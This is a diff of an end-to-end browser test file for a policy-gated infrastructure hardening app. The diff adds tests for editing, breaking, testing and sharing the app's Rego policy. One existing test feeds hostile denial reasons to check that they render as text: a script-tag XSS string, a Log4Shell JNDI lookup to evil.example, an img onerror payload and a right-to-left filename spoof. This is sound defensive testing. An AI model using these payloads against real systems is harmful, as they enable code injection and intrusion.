@@ -3,7 +3,9 @@
 // execution and the reward; the risk moves); an agent is watched for some cycles with the
 // evaluation's charts filling in; recommend-only mode's Accept and Reject; the trajectory and
 // audit downloads; the share link round-trip; denial reasons of hostile text (they come from
-// Rego) render as text. Screenshots at 1280x800 are kept in test-output/e2e/harden-*.png.
+// Rego) render as text; the policy edited in the Rego panel so an allowed proposal is denied
+// (with the new reason), broken (the error at its line, the edit before it still in force), its
+// tests run, and shared in a link that opens with it. Screenshots at 1280x800 are kept in test-output/e2e/harden-*.png.
 //
 // scripts/test.sh builds dist/ first (trunk build --release --offline).
 
@@ -29,6 +31,9 @@ const textOf = async (page, id) => (await byTestId(page, id).first().textContent
 const numberOf = async (page, id) => Number(await textOf(page, id));
 const stage = (page, key) => page.locator(`.pipe-stage[data-stage=${key}]`);
 const cycleNumber = async (page) => Number((await textOf(page, 'cycle')).split(' / ')[0]);
+/** The Rego panel's editor and its buttons (the run controls have a Reset of their own). */
+const editor = (page) => page.getByRole('textbox', { name: 'Policy', exact: true });
+const panelButton = (page, name) => byTestId(page, 'rego-panel').getByRole('button', { name, exact: true });
 
 async function shoot(page, name) {
   await mkdir(SCREENSHOT_DIR, { recursive: true });
@@ -98,7 +103,7 @@ test('harden: a person picks a scenario, plays cycles by hand and sees the pipel
       assert.ok((await twin.locator('.chip[data-level=bad]', { hasText: '0.0.0.0/0 public' }).count()) >= 1, 'the public exposure is coloured');
       const risk0 = await numberOf(page, 'risk');
       assert.ok(risk0 > 0, `risk ${risk0}`);
-      assert.match(await textOf(page, 'policy-text'), /package/);
+      assert.match(await editor(page).inputValue(), /package hardening\.network/);
       await assertInFirstScreen(page, DESKTOP, 'at the start', FIRST_SCREEN);
 
       // Tightening the reports API's public rule is allowed in prod: it runs and cuts the risk.
@@ -130,7 +135,7 @@ test('harden: a person picks a scenario, plays cycles by hand and sees the pipel
       assert.equal(await textOf(page, 'gate-pass-rate'), '0.50');
       assert.equal(await byTestId(page, 'action-distribution').locator('li').count(), 2);
       // The gate's input of the current proposal is shown beside the policy.
-      assert.match(await textOf(page, 'gate-input'), /"environment": "prod"/);
+      assert.match(await textOf(page, 'rego-input'), /"environment": "prod"/);
       await assertInFirstScreen(page, DESKTOP, 'after two cycles', FIRST_SCREEN);
       await shoot(page, 'harden-desktop-person');
     },
@@ -285,7 +290,7 @@ test('harden: denial reasons of hostile text (they come from Rego) render as tex
     assert.ok(reasons.includes("<script>alert('reason')</script> ${jndi:ldap://evil.example/a}"), `${reasons}`);
     assert.ok(reasons.includes('<img src=x onerror=alert(1)> \u202Egpj.exe'), `${reasons}`);
     assert.equal(await page.locator('.stage script, .stage img').count(), 0, 'no markup from the reasons');
-    assert.ok((await textOf(page, 'policy-text')).includes('package hostile'));
+    assert.ok((await editor(page).inputValue()).includes('package hostile'));
     await assertInFirstScreen(page, DESKTOP, 'hostile reasons', FIRST_SCREEN);
     assert.deepEqual(dialogs, [], 'no script ran');
     await shoot(page, 'harden-desktop-hostile');
@@ -315,4 +320,59 @@ test('harden at 390x844: one column, every panel drawn, no horizontal scroll', a
     },
     { viewport: PHONE, shot: 'harden-phone-full' },
   );
+});
+
+test('harden: the policy is edited so an allowed proposal is denied, broken at a line, tested, and shared in a link', async (t) => {
+  const FREEZE = 'change freeze: no inbound rule changes this week';
+  const CANDIDATE = { action: 'tighten_inbound_rule', params: 'service=reports-api' };
+  const candidate = (page) =>
+    page
+      .locator('.candidate')
+      .filter({ has: page.locator('.candidate-action', { hasText: CANDIDATE.action }) })
+      .filter({ has: page.locator('.candidate-params', { hasText: CANDIDATE.params }) })
+      .first();
+  let shared;
+  await withPage(t, dist.browser, link({ scenario: 'uc01-network-exposure', stage: 'prod' }), async (page) => {
+    await dismissIntro(page);
+    const shipped = await editor(page).inputValue();
+    assert.match(await candidate(page).textContent(), /gate allows/, 'allowed under the shipped policy');
+    const edited = `${shipped}\ndeny contains "${FREEZE}" if input.action.id == "tighten_inbound_rule"\n`;
+    await editor(page).fill(edited);
+    await panelButton(page, 'Apply').click();
+    await page.waitForFunction(() => location.hash.includes('&rego='));
+    assert.match(await textOf(page, 'rego-status'), /in force/);
+    assert.match(await candidate(page).textContent(), /gate denies/, 'the same proposal, judged again');
+    await propose(page, CANDIDATE.action, CANDIDATE.params);
+    assert.equal(await textOf(page, 'decision'), 'Denied');
+    const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
+    assert.ok(reasons.some((r) => r.includes(FREEZE)), `the new reason: ${reasons}`);
+    assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Skipped');
+
+    // Its tests: the shipped test that tightening with a ticket is allowed now fails.
+    await panelButton(page, 'Run tests').click();
+    await page.waitForFunction(() => /\d+ passed, [1-9]\d* failed/.test(document.querySelector('[data-testid=rego-tests]')?.textContent ?? ''));
+    assert.match(await textOf(page, 'rego-tests'), /FAIL\s+test_tighten_with_ticket_allowed/);
+    shared = await byTestId(page, 'share-link').inputValue();
+
+    // Broken at line 3: the error names it; the edit stays in force and in the link.
+    const hashBefore = await page.evaluate(() => location.hash);
+    await editor(page).fill('package hardening.network\n\nallow if {\n');
+    await panelButton(page, 'Apply').click();
+    await page.waitForFunction(() => /Line \d+, column/.test(document.querySelector('[data-testid=rego-error]')?.textContent ?? ''));
+    assert.match(await textOf(page, 'rego-error'), /Line 4, column 1/);
+    assert.equal(await page.evaluate(() => location.hash), hashBefore, 'the policy in force is unchanged');
+    await propose(page, CANDIDATE.action, CANDIDATE.params);
+    assert.equal(await textOf(page, 'decision'), 'Denied', 'still the edit in force');
+    await shoot(page, 'harden-desktop-rego-error');
+  }, { shot: 'harden-rego-edited' });
+
+  assert.match(shared, /&rego=1/);
+  await withPage(t, dist.browser, shared, async (page) => {
+    await dismissIntro(page);
+    assert.ok((await editor(page).inputValue()).includes(FREEZE), 'the link opens with the edit');
+    assert.match(await candidate(page).textContent(), /gate denies/);
+    await propose(page, CANDIDATE.action, CANDIDATE.params);
+    const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
+    assert.ok(reasons.some((r) => r.includes(FREEZE)), `${reasons}`);
+  }, { shot: 'harden-rego-link-opened' });
 });
